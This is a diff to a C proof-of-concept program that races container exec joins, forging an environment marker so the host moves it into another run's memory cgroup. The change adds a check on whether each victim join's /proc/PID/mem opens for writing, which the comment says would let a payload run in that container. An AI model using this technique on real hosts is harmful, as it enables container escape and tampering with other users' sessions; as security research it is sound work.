@@ -8,8 +8,11 @@
  * environment /proc/self/environ shows is this process's own memory), and
  * checks whether the host moved it into that run's memory cgroup. Its own
  * marker goes back after each try (so the victim's end does not take it).
- * Stops after VICTIMS joins seen or SECONDS; prints "seen N moved M" and
- * one line per run it landed in.
+ * It also tries to open the waiting join's memory for writing (a payload
+ * written there would run beside the session's init, in the container's
+ * memory cgroup, before the move). Stops after VICTIMS joins seen or
+ * SECONDS; prints "seen N moved M writable W" and one line per run it
+ * landed in.
  */
 #include <dirent.h>
 #include <fcntl.h>
@@ -47,7 +50,7 @@ now(void)
 	return ts.tv_sec + ts.tv_nsec / 1e9;
 }
 
-/* The run of another exec's join now in /proc, into run; 1 or 0. */
+/* The run of another exec's join now in /proc, into run; its pid, or 0. */
 static int
 find_join(const char *own, const char *last, size_t len, char *run)
 {
@@ -73,7 +76,7 @@ find_join(const char *own, const char *last, size_t len, char *run)
 		    strcmp(a2, own) == 0 || strcmp(a2, last) == 0)
 			continue;
 		memcpy(run, a2, len + 1);
-		found = 1;
+		found = atoi(de->d_name);
 	}
 	closedir(d);
 	return found;
@@ -101,7 +104,8 @@ main(int argc, char **argv)
 	char	*mark = NULL, own[128], run[128], last[128] = "";
 	double	 end, t;
 	size_t	 len;
-	int	 i, seen = 0, moved = 0, victims;
+	char	 path[64];
+	int	 i, pid, fd, seen = 0, moved = 0, writable = 0, victims;
 
 	if (argc != 3)
 		return 2;
@@ -114,8 +118,13 @@ main(int argc, char **argv)
 		return 3;
 	memcpy(own, mark, len + 1);
 	while (seen < victims && now() < end) {
-		if (!find_join(own, last, len, run))
+		if ((pid = find_join(own, last, len, run)) == 0)
 			continue;
+		snprintf(path, sizeof(path), "/proc/%d/mem", pid);
+		if ((fd = open(path, O_RDWR)) != -1) {
+			writable++;
+			close(fd);
+		}
 		memcpy(mark, run, len);		/* the forged marker */
 		memcpy(last, run, len + 1);
 		seen++;
@@ -127,6 +136,6 @@ main(int argc, char **argv)
 		}
 		memcpy(mark, own, len);
 	}
-	printf("seen %d moved %d\n", seen, moved);
+	printf("seen %d moved %d writable %d\n", seen, moved, writable);
 	return 0;
 }
